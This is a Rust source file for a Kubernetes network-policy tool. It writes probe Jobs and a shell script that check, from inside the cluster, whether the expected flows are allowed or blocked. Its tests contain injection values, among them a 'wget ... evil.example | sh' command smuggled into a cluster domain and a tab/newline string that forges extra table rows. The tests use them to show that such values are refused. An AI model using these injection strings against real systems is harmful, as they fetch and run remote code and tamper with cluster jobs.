//! `probes`: for every flow the manifests require, a Kubernetes Job that tests it from inside
//! the cluster once policies are enforced — in the client's namespace, with its pod labels and
//! service account, so the same policies apply — and a script that applies them, waits, and
//! prints expected against actual. DNS is a name lookup, a Service a TCP connect to its name
//! and port, the API server a request to `/healthz`.
//!
//! Probe pods never become Ready (their readiness check fails), so a Service selecting the
//! client's labels never sends them traffic.

use std::collections::BTreeMap;
use std::io;
use std::path::Path;

use crate::check::CheckRun;
use crate::fix::yaml_out::{Style, Y, emit};
use crate::model::{Labels, Name};

/// Images and commands of the probes (`netpol-fix probes` options). `{host}` and `{port}` become
/// `"$PROBE_HOST"` and `"$PROBE_PORT"`, environment variables of the probe container: no value
/// from the input is ever part of the shell text.
#[derive(Clone, Debug, clap::Args)]
pub struct ProbeOptions {
    /// Image of the DNS and TCP probes.
    #[arg(long, default_value = "busybox:1.36")]
    pub image: String,
    /// Image of the API server probe.
    #[arg(long, default_value = "curlimages/curl:8.11.1")]
    pub http_image: String,
    /// DNS probe command (`{host}` is filled in).
    #[arg(long, default_value = "nslookup {host}")]
    pub dns_command: String,
    /// TCP probe command (`{host}` and `{port}` are filled in).
    #[arg(long, default_value = "nc -z -w 5 {host} {port}")]
    pub tcp_command: String,
    /// API server probe command (`{host}` is filled in).
    #[arg(
        long,
        default_value = "curl -sk --max-time 5 -o /dev/null https://{host}/healthz"
    )]
    pub api_command: String,
}

/// One probe: a Job testing one flow.
struct Probe {
    namespace: Name,
    name: String,
    flow: String,
    expect: &'static str,
    labels: Labels,
    service_account: Name,
    image: String,
    command: String,
    /// What the command connects to, passed as `PROBE_HOST` and `PROBE_PORT`.
    host: String,
    port: u16,
}

/// A probe the input makes unsafe to write, and why.
struct Skipped {
    flow: String,
    reason: String,
}

/// What a template's `{host}` and `{port}` become: quoted references to the container's
/// environment, never the values.
fn fill(template: &str) -> String {
    template
        .replace("{host}", "\"$PROBE_HOST\"")
        .replace("{port}", "\"$PROBE_PORT\"")
}

/// Why `p` cannot be written safely: a field that is not a valid Kubernetes name or holds a
/// control character would reach the Job's YAML, `probes.tsv` or the script's arguments.
fn refuse(p: &Probe) -> Option<String> {
    use crate::model::validate;
    let name = |what: &str, value: &str, check: fn(&[u8]) -> Result<(), String>| {
        check(value.as_bytes())
            .err()
            .map(|e| format!("{what} {value:?} {e}"))
    };
    let control = |what: &str, value: &str| {
        value
            .chars()
            .any(char::is_control)
            .then(|| format!("{what} {value:?} contains a control character"))
    };
    control("flow", &p.flow)
        .or_else(|| name("namespace", &p.namespace, validate::dns1123_label))
        .or_else(|| name("Job name", &p.name, validate::dns1123_label))
        .or_else(|| {
            name(
                "service account",
                &p.service_account,
                validate::dns1123_subdomain,
            )
        })
        .or_else(|| name("host", &p.host, validate::dns1123_subdomain))
        .or_else(|| {
            p.labels.iter().find_map(|(k, v)| {
                name("label key", k, validate::qualified_name)
                    .or_else(|| name("label value", v, validate::label_value))
            })
        })
        .or_else(|| control("image", &p.image))
        .or_else(|| control("command", &p.command))
}

fn verdict(allowed: bool) -> &'static str {
    if allowed { "allowed" } else { "blocked" }
}

/// A DNS-1123 name: lower case, `-` for anything else, at most 63 characters.
fn job_name(n: usize, parts: &[&str]) -> String {
    let raw = format!("probe-{n}-{}", parts.join("-")).to_ascii_lowercase();
    let mut name: String = raw
        .chars()
        .map(|c| if c.is_ascii_alphanumeric() { c } else { '-' })
        .collect();
    name.truncate(63);
    name.trim_end_matches('-').to_string()
}

/// The probes, and those refused (see [`refuse`]).
fn probes(run: &CheckRun, options: &ProbeOptions) -> (Vec<Probe>, Vec<Skipped>) {
    let world = &run.analysis.world;
    let domain = &run.config.cluster_domain;
    let api_blocked: std::collections::HashSet<&crate::model::ObjectId> = run
        .findings
        .iter()
        .filter(|f| f.rule == "missing-apiserver-egress")
        .map(|f| &f.object)
        .collect();
    let mut out: Vec<Probe> = Vec::new();
    let mut skipped: Vec<Skipped> = Vec::new();
    let mut push = |w: usize,
                    what: &str,
                    flow: String,
                    allowed: bool,
                    image: &str,
                    template: &str,
                    (host, port): (String, u16)| {
        let workload = &world.workloads[w];
        let probe = Probe {
            namespace: workload.meta.id.namespace,
            name: job_name(out.len() + 1, &[&workload.meta.id.name, what]),
            flow,
            expect: verdict(allowed),
            labels: workload.labels.clone(),
            service_account: workload.service_account,
            image: image.to_string(),
            command: fill(template),
            host,
            port,
        };
        match refuse(&probe) {
            Some(reason) => skipped.push(Skipped {
                flow: probe.flow,
                reason,
            }),
            None => out.push(probe),
        }
    };
    let api_host = format!("kubernetes.default.svc.{domain}");
    for (w, workload) in world.workloads.iter().enumerate() {
        if workload.host_network {
            continue;
        }
        push(
            w,
            "dns",
            format!("{} -> DNS", workload.meta.id),
            run.recorded.dns_resolves[w],
            &options.image,
            &options.dns_command,
            (api_host.clone(), 53),
        );
        if run.recorded.uses_api[w] {
            push(
                w,
                "api",
                format!("{} -> API server", workload.meta.id),
                !api_blocked.contains(&workload.meta.id),
                &options.http_image,
                &options.api_command,
                (api_host.clone(), 443),
            );
        }
    }
    // One probe per client and Service port: a connection reaches one of the Service's pods,
    // so it is expected to work when every one of them admits it.
    let mut by_service: BTreeMap<(usize, usize, u16), bool> = BTreeMap::new();
    for r in &run.recorded.flows {
        *by_service
            .entry((r.client, r.service, r.service_port))
            .or_insert(true) &= r.allowed;
    }
    for ((client, service, port), allowed) in by_service {
        let id = &world.services[service].meta.id;
        let host = format!("{}.{}.svc.{domain}", id.name, id.namespace);
        push(
            client,
            &id.name,
            format!(
                "{} -> Service {}/{} port {port}",
                world.workloads[client].meta.id, id.namespace, id.name
            ),
            allowed,
            &options.image,
            &options.tcp_command,
            (host, port),
        );
    }
    (out, skipped)
}

/// One row of `probes.tsv`: namespace, Job, expected verdict, flow. [`refuse`] keeps tabs and
/// newlines out of every field.
fn tsv_row(p: &Probe) -> String {
    format!("{}\t{}\t{}\t{}\n", p.namespace, p.name, p.expect, p.flow)
}

fn job(p: &Probe) -> Y {
    let mut pod_labels: Vec<(Name, Y)> = p.labels.iter().map(|(k, v)| (*k, Y::Str(*v))).collect();
    pod_labels.push(("netpol-fix.io/probe".into(), Y::Str("true".into())));
    let str = |s: &str| Y::Str(s.into());
    Y::Map(vec![
        ("apiVersion".into(), str("batch/v1")),
        ("kind".into(), str("Job")),
        (
            "metadata".into(),
            Y::Map(vec![
                ("name".into(), str(&p.name)),
                ("namespace".into(), Y::Str(p.namespace)),
                (
                    "labels".into(),
                    Y::Map(vec![("netpol-fix.io/probe".into(), str("true"))]),
                ),
                (
                    "annotations".into(),
                    Y::Map(vec![
                        ("netpol-fix.io/flow".into(), str(&p.flow)),
                        ("netpol-fix.io/expect".into(), str(p.expect)),
                    ]),
                ),
            ]),
        ),
        (
            "spec".into(),
            Y::Map(vec![
                ("backoffLimit".into(), Y::Raw("0".into())),
                ("activeDeadlineSeconds".into(), Y::Raw("60".into())),
                (
                    "template".into(),
                    Y::Map(vec![
                        (
                            "metadata".into(),
                            Y::Map(vec![("labels".into(), Y::Map(pod_labels))]),
                        ),
                        (
                            "spec".into(),
                            Y::Map(vec![
                                ("restartPolicy".into(), str("Never")),
                                ("serviceAccountName".into(), Y::Str(p.service_account)),
                                (
                                    "containers".into(),
                                    Y::Seq(vec![Y::Map(vec![
                                        ("name".into(), str("probe")),
                                        ("image".into(), str(&p.image)),
                                        (
                                            "command".into(),
                                            Y::Seq(vec![str("sh"), str("-c"), str(&p.command)]),
                                        ),
                                        (
                                            "env".into(),
                                            Y::Seq(vec![
                                                Y::Map(vec![
                                                    ("name".into(), str("PROBE_HOST")),
                                                    ("value".into(), str(&p.host)),
                                                ]),
                                                Y::Map(vec![
                                                    ("name".into(), str("PROBE_PORT")),
                                                    ("value".into(), str(&p.port.to_string())),
                                                ]),
                                            ]),
                                        ),
                                        (
                                            "readinessProbe".into(),
                                            Y::Map(vec![(
                                                "exec".into(),
                                                Y::Map(vec![(
                                                    "command".into(),
                                                    Y::Seq(vec![str("false")]),
                                                )]),
                                            )]),
                                        ),
                                    ])]),
                                ),
                            ]),
                        ),
                    ]),
                ),
            ]),
        ),
    ])
}

const SCRIPT: &str = r#"#!/bin/sh
# Applies the probe Jobs netpol-fix wrote next to this script, waits for each, and prints the
# expected verdict against what happened. Exit 1 when any probe disagrees. KEEP=1 keeps the Jobs.
set -u
cd "$(dirname "$0")"
kubectl apply -f jobs/ >/dev/null || exit 2
failures=0
name_ok() {
  case "$1" in
    '' | -* | *- | *[!a-z0-9-]*) return 1 ;;
  esac
}
printf '%-8s %-8s %-8s %s\n' RESULT EXPECT ACTUAL FLOW
while IFS='	' read -r ns job expect flow; do
  # netpol-fix writes only Kubernetes names here; refuse anything else.
  if ! name_ok "$ns" || ! name_ok "$job"; then
    printf '%-8s %-8s %-8s %s\n' FAIL "$expect" invalid "$flow"
    failures=$((failures + 1))
    continue
  fi
  actual=timeout
  for _ in $(seq 1 90); do
    status=$(kubectl --namespace="$ns" get job -o 'jsonpath={.status.succeeded}/{.status.failed}' -- "$job" 2>/dev/null)
    case "$status" in
      1/*) actual=allowed; break ;;
      */1) actual=blocked; break ;;
    esac
    sleep 1
  done
  if [ "$actual" = "$expect" ]; then result=PASS; else result=FAIL; failures=$((failures + 1)); fi
  printf '%-8s %-8s %-8s %s\n' "$result" "$expect" "$actual" "$flow"
  [ "${KEEP:-0}" = 1 ] || kubectl --namespace="$ns" delete job --wait=false -- "$job" >/dev/null 2>&1
done < probes.tsv
[ "$failures" -eq 0 ]
"#;

/// Writes `jobs/<namespace>--<job>.yaml`, `probes.tsv` and `run-probes.sh` into `dir`;
/// returns how many probes.
pub fn write(run: &CheckRun, dir: &Path, options: &ProbeOptions) -> io::Result<usize> {
    let (probes, skipped) = probes(run, options);
    for s in &skipped {
        eprintln!(
            "warning: no probe for {}: {}",
            s.flow.escape_debug(),
            s.reason
        );
    }
    let mut out = crate::outdir::OutDir::open(dir)?;
    let style = Style {
        indent_sequences: false,
        crlf: false,
    };
    let mut table = String::new();
    for p in &probes {
        let file = format!(
            "jobs/{}--{}.yaml",
            crate::outdir::name_part(&p.namespace),
            crate::outdir::name_part(&p.name)
        );
        out.write(&file, emit(&job(p), style).as_bytes(), None)?;
        table.push_str(&tsv_row(p));
    }
    out.write("probes.tsv", table.as_bytes(), None)?;
    out.write("run-probes.sh", SCRIPT.as_bytes(), Some(0o755))?;
    Ok(probes.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check::{CheckOptions, check};
    use crate::load::Input;

    fn options() -> ProbeOptions {
        ProbeOptions {
            image: "busybox:1.36".into(),
            http_image: "curlimages/curl:8.11.1".into(),
            dns_command: "nslookup {host}".into(),
            tcp_command: "nc -z -w 5 {host} {port}".into(),
            api_command: "curl -sk --max-time 5 -o /dev/null https://{host}/healthz".into(),
        }
    }

    /// The demo, checked as `probes` checks it: no hostile name gets through the loader, so
    /// the tests below put one into the checked model, as a loader bug would.
    fn demo() -> CheckRun {
        let options = CheckOptions {
            record_flows: true,
            ..CheckOptions::default()
        };
        let run = check(
            &[Input::Path(
                Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/demo"),
            )],
            &options,
        );
        assert!(!run.analysis.has_errors());
        run
    }

    fn texts(run: &CheckRun) -> (Vec<String>, String) {
        let style = Style {
            indent_sequences: false,
            crlf: false,
        };
        let (probes, _) = probes(run, &options());
        (
            probes.iter().map(|p| emit(&job(p), style)).collect(),
            probes.iter().map(tsv_row).collect(),
        )
    }

    /// Item 3: a Service name or `cluster_domain` never becomes shell text; host and port are
    /// environment variables, quoted where the command uses them.
    #[test]
    fn hosts_reach_the_probe_as_environment_never_as_shell_text() {
        let mut run = demo();
        let hostile = "x;wget -qO- http://evil.example/p|sh;#";
        run.config.cluster_domain = hostile.into();
        let (jobs, table) = texts(&run);
        for text in &jobs {
            assert!(!text.contains("evil.example"), "{text}");
        }
        assert!(!table.contains("evil.example"), "{table}");

        let run = demo();
        let (jobs, _) = texts(&run);
        let tcp = jobs
            .iter()
            .find(|t| t.contains("value: mlflow.mlflow.svc.cluster.local"))
            .expect("a probe of Service mlflow/mlflow");
        assert!(
            tcp.contains(
                "        - sh\n        - \"-c\"\n        - nc -z -w 5 \"$PROBE_HOST\" \"$PROBE_PORT\"\n        env:\n        - name: PROBE_HOST\n          value: mlflow.mlflow.svc.cluster.local\n        - name: PROBE_PORT\n          value: \"80\"\n"
            ),
            "{tcp}"
        );
        assert!(!tcp.contains("-w 5 mlflow"), "{tcp}");
    }

    /// A hostile host is refused even if it got this far, and its Job is never written.
    #[test]
    fn a_host_that_is_no_dns_name_gets_no_probe() {
        let mut run = demo();
        run.config.cluster_domain = "cluster.local\nevil".into();
        let (probes, skipped) = probes(&run, &options());
        assert!(probes.is_empty());
        assert!(skipped[0].reason.contains("host"), "{}", skipped[0].reason);
    }

    /// Item 4: a tab or newline in a workload name would add rows to `probes.tsv` (and the
    /// script would delete the Job the extra row names); such a probe is refused.
    #[test]
    fn control_characters_never_reach_the_table_or_the_jobs() {
        let mut run = demo();
        for w in &mut run.analysis.world.workloads {
            w.meta.id.name = Name::from(&format!(
                "{}\tx\tx\nkube-system\tcritical-backup\tallowed\tx",
                w.meta.id.name
            ));
        }
        let (jobs, table) = texts(&run);
        assert!(!table.contains("critical-backup"), "{table}");
        for text in &jobs {
            assert!(!text.contains("critical-backup"), "{text}");
        }
        let (_, skipped) = probes(&run, &options());
        assert!(!skipped.is_empty());
        assert!(skipped[0].reason.contains("control character"));
    }

    /// The script quotes every variable, ends kubectl's options with `--`, and refuses a row
    /// whose namespace or Job is not a Kubernetes name.
    #[test]
    fn the_script_quotes_and_refuses_what_is_not_a_name() {
        assert!(SCRIPT.contains(
            "kubectl --namespace=\"$ns\" get job -o 'jsonpath={.status.succeeded}/{.status.failed}' -- \"$job\""
        ));
        assert!(SCRIPT.contains("kubectl --namespace=\"$ns\" delete job --wait=false -- \"$job\""));
        assert!(SCRIPT.contains("if ! name_ok \"$ns\" || ! name_ok \"$job\"; then"));
        assert!(!SCRIPT.contains("-n \"$ns\""));
    }
}
